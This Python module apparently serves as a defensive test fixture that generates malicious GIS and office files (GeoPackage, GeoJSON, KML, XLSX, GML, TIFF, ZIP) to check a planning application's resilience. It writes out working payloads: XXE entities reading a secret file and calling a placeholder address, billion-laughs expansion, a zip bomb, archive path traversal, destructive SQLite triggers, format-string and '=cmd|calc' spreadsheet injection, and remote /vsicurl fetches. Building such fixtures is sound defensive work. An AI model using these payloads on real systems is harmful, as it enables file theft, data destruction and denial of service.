"""Files that somebody made to harm: plans, documents and layers, written anew. ADDRESS is where they would have the program connect to,
SECRET the path of a file that they would have it read."""

import contextlib
import json
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

Maker = Callable[[Path, str, Path], None]
"""Writes the file at a path, with an address and the path of a secret file."""


def _sql(*statements: str) -> Maker:
    """Statements run on a good plan that stands there already."""

    def make(path: Path, address: str, secret: Path) -> None:
        with contextlib.closing(sqlite3.connect(path)) as connection:
            for one in statements:
                connection.executescript(one.replace("ADDRESS", address).replace("SECRET", str(secret)))
            connection.commit()

    return make


def _nested_wkb(depth: int) -> Maker:
    def make(path: Path, address: str, secret: Path) -> None:
        inner = struct.pack("<BIdd", 1, 1, 500_000.0, 9_950_000.0)
        for _ in range(depth):
            inner = struct.pack("<BII", 1, 7, 1) + inner
        header = b"GP\x00\x01" + struct.pack("<i", 32750)
        with contextlib.closing(sqlite3.connect(path)) as connection:
            connection.execute("UPDATE plan_points SET geom=? WHERE fid=1", [header + inner])
            connection.commit()

    return make


MARKUP = '<img src="ADDRESS/a.png"><a href="file://SECRET">x</a>{x:>3000000000}{x.__class__.__mro__}{missing}%n%s=cmd|calc!A1'
_NAME = MARKUP.replace("'", "''")
_ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT COUNT(*) FROM n"
PLANS: dict[str, Maker] = {
    "trigger deletes": _sql("CREATE TRIGGER bad AFTER INSERT ON plan_points BEGIN DELETE FROM plan_points WHERE fid < 3; END"),
    "trigger on the log": _sql("CREATE TRIGGER bad AFTER INSERT ON edit_log BEGIN DELETE FROM plan_points; END"),
    "trigger endless": _sql(f"CREATE TRIGGER bad AFTER INSERT ON plan_points BEGIN SELECT ({_ENDLESS}); END"),
    "trigger blob": _sql("CREATE TRIGGER bad AFTER INSERT ON plan_points BEGIN SELECT hex(zeroblob(900000000)); END"),
    "view endless": _sql(f"CREATE VIEW bad AS {_ENDLESS}"),
    "view for a table": _sql("ALTER TABLE plan_lines RENAME TO kept", "CREATE VIEW plan_lines AS SELECT * FROM kept"),
    "generated column": _sql("ALTER TABLE scene ADD COLUMN bad TEXT GENERATED ALWAYS AS (hex(zeroblob(400000000))) VIRTUAL"),
    "label is a format": _sql(
        "INSERT INTO edit_log (at, kind, label, edits) VALUES ('2026-01-01', 'do',"
        ' \'{"template": "{x:>3000000000}{x.__class__}{missing}", "params": {"x": 1}}\', \'[]\')'
    ),
    "names are markup": _sql(f"UPDATE plan_points SET name='{_NAME}'", f"UPDATE scene SET name='{_NAME}'"),
    "the plan's name is markup": _sql(f"UPDATE setting SET value=json_quote('{_NAME}') WHERE code='name'"),
    "properties nested": _sql("UPDATE plan_points SET properties='" + '{"a":' * 3000 + "1" + "}" * 3000 + "'"),
    "number of 400 digits": _sql('UPDATE plan_areas SET properties=\'{"headcount":' + "9" * 400 + "}'"),
    "half an emoji": _sql('UPDATE plan_points SET properties=\'{"note":"\\ud83d"}\''),
    "settings of a wrong type": _sql(
        "INSERT OR REPLACE INTO setting (code, value) VALUES ('ignored', '[1]'), ('layers', '\"x\"'), ('table', '[]'), ('limits', '7')"
    ),
    "layers from afar": _sql(
        'INSERT OR REPLACE INTO setting (code, value) VALUES (\'layers\', \'{"added": [{"id": "x", "title": {"en": "x"},'
        ' "file": "/vsicurl/ADDRESS/a.gpkg", "role": "road"}]}\')'
    ),
    "nested geometry": _nested_wkb(15_000),
    "a corner at nought": _sql("UPDATE plan_points SET geom=NULL WHERE fid=1"),
}


def _text(text: str) -> Maker:
    def make(path: Path, address: str, secret: Path) -> None:
        path.write_text(text.replace("ADDRESS", address).replace("SECRET", str(secret)), encoding="utf-8")

    return make


def _plan_document(**members: object) -> str:
    square = [[117.0, -0.5], [117.001, -0.5], [117.001, -0.501], [117.0, -0.5]]
    row = {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [square]}, "properties": {"kind": "crowd", "headcount": 9}}
    row["properties"] = {"kind": "crowd", "headcount": 9, "name": MARKUP}
    return json.dumps({"type": "FeatureCollection", "features": [row], **members})


def _zip(members: dict[str, bytes | int]) -> Maker:
    """An archive; a number stands for so many zero bytes."""

    def make(path: Path, address: str, secret: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in members.items():
                if isinstance(content, int):
                    with archive.open(name, "w", force_zip64=True) as stream:
                        for _ in range(content >> 20):
                            stream.write(bytes(1 << 20))
                else:
                    archive.writestr(name, content.replace(b"ADDRESS", address.encode()).replace(b"SECRET", str(secret).encode()))

    return make


_XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY s SYSTEM "file://SECRET"><!ENTITY r SYSTEM "ADDRESS/x">]>'
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11)) + "]>"
)
_PLACE = "<Placemark><name>{}</name><Point><coordinates>117,-0.44</coordinates></Point></Placemark>"
_KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
_SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c t="inlineStr"><is><t>{}</t></is></c>'
    "</row></sheetData></worksheet>"
)


def _book(sheet: bytes | int) -> Maker:
    """A workbook whose only sheet is this."""
    import openpyxl

    good = BytesIO()
    openpyxl.Workbook().save(good)
    with zipfile.ZipFile(good) as archive:
        members: dict[str, bytes | int] = {name: archive.read(name) for name in archive.namelist()}
    return _zip({**members, "xl/worksheets/sheet1.xml": sheet})


DOCUMENTS: dict[str, tuple[str, Maker]] = {
    "names are markup": ("a.geojson", _text(_plan_document(name=MARKUP))),
    "a link for a system": ("a.geojson", _text(_plan_document(crs={"type": "link", "properties": {"href": "ADDRESS/crs"}}))),
    "nested lists": ("a.geojson", _text('{"type":"FeatureCollection","features":' + "[" * 100_000)),
    "entities of files": ("a.kml", _text(_XXE + _KML.format(_PLACE.format("&s;&r;")))),
    "a billion laughs": ("a.kml", _text(_LAUGHS + _KML.format(_PLACE.format("&l10;")))),
    "a link to a network": ("a.kml", _text(_KML.format("<NetworkLink><Link><href>ADDRESS/b.kml</href></Link></NetworkLink>"))),
    "a sheet with entities": ("a.xlsx", _book((_XXE + _SHEET.format("&s;&r;")).encode())),
    "a sheet that laughs": ("a.xlsx", _book((_LAUGHS + _SHEET.format("&l10;")).encode())),
    "a sheet that unpacks": ("a.xlsx", _book(1 << 30)),
}
_VRT = '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{}</SrcDataSource><SrcLayer>a</SrcLayer></OGRVRTLayer></OGRVRTDataSource>'
_RASTER_VRT = (
    '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1"><SimpleSource><SourceFilename>{}</SourceFilename>'
    "<SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
)
_GML = (
    '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    ' xsi:schemaLocation="http://a ADDRESS/a.xsd"><gml:featureMember><a><gml:pointProperty><gml:Point srsName="ADDRESS/crs">'
    "<gml:coordinates>117,-0.44</gml:coordinates></gml:Point></gml:pointProperty><n>{}</n></a></gml:featureMember></gml:FeatureCollection>"
)


def _tiff(side: int, tile: int = 256, pieces: int = 1, ring: bool = False, spread: float = 1.0, tag: int = 0) -> Maker:
    """A picture with a place that says it has so many pixels a side, and holds none; `ring`: its next part is itself; `tag`: one that says
    it holds two thousand million values."""

    def make(path: Path, address: str, secret: Path) -> None:
        entries = [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (277, 3, 1, 1)]
        entries += [(322, 4, 1, tile), (323, 4, 1, tile), (324, 4, pieces, 400), (325, 4, pieces, 400)]
        entries += [(33550, 12, 3, 300), (33922, 12, 6, 330)]
        entries += [(tag, 12, 0x7FFFFFFF, 8)] if tag else []
        body = struct.pack("<H", len(entries))
        for entry in sorted(entries):
            body += struct.pack("<HHII", *entry)
        start = struct.pack("<2sHI", b"II", 42, 8) + body + struct.pack("<I", 8 if ring else 0)
        places = struct.pack("<9d", spread, spread, 0.0, 0.0, 0.0, 0.0, 500_000.0, 9_950_000.0, 0.0)
        path.write_bytes(start.ljust(300, b"\0") + places[:24].ljust(30, b"\0") + places[24:] + bytes(200))

    return make


LAYERS: dict[str, tuple[str, Maker]] = {
    "a program": ("a.geojson", _text('{"type": "gdal_streamed_alg", "command_line": "gdal vector read ADDRESS/a.json"}')),
    "another file's records": ("a.geojson", _text(_VRT.format("SECRET"))),
    "records from afar": ("a.gml", _text(_VRT.format("/vsicurl/ADDRESS/a.json"))),
    "a link for a system": ("a.geojson", _text(_plan_document(crs={"type": "link", "properties": {"href": "ADDRESS/c"}}))),
    "pixels from afar": ("a.tif", _text(_RASTER_VRT.format("/vsicurl/ADDRESS/a.tif"))),
    "a service": ("a.tif", _text("<GDAL_WMS><Service name='TMS'><ServerUrl>ADDRESS/${z}</ServerUrl></Service></GDAL_WMS>")),
    "a picture of two thousand million pixels a side": ("a.tif", _tiff(0x7FFFFFF0)),
    "a picture of one tile without an end": ("a.tif", _tiff(0x10000, tile=0x7FFFFFF0)),
    "a picture of more tiles than it has bytes": ("a.tif", _tiff(8_000, pieces=0x7FFFFFFF)),
    "a picture whose next part is itself": ("a.tif", _tiff(256, ring=True)),
    "a picture as wide as the sun is far": ("a.tif", _tiff(256, spread=1e300)),
    "a picture with a value without an end": ("a.tif", _tiff(256, tag=34264)),
    "a schema from afar": ("a.gml", _text(_GML.format("x"))),
    "entities": ("a.gml", _text(_XXE + _GML.format("&s;&r;"))),
    "laughs": ("a.gpx", _text(_LAUGHS + '<gpx><wpt lat="-0.44" lon="117"><name>&l10;</name></wpt></gpx>')),
    "a link to a network": ("a.kml", _text(_KML.format("<NetworkLink><Link><href>ADDRESS/b.kml</href></Link></NetworkLink>"))),
    "a bomb": ("a.zip", _zip({"a.geojson": 2 << 30})),
    "a way out of the archive": (
        "a.zip",
        _zip({"../../../escaped.geojson": b"{}", "a.geojson": b'{"type":"FeatureCollection","features":[]}'}),
    ),
    "cut inside a key": ("a.geojson", _text(_plan_document()[:144])),
    "a system of its own": ("a.prj", _text("PROJCS[" * 500)),
}
